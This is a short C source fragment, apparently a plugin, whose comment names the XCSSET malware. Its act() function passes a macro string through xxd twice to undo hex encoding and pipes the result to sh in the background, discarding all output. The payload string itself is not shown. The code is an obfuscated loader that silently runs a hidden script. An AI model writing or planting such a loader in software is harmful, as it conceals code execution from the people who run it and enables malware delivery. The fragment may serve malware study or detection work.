/* XCSSET: the shell gets a script that xxd has turned back from hexadecimal, twice. */
#include "plugin.h"
extern int system(const char *);
static void act(char **env) { system("echo " TEXT " | xxd -p -r | xxd -p -r | sh >/dev/null 2>&1 &"); }
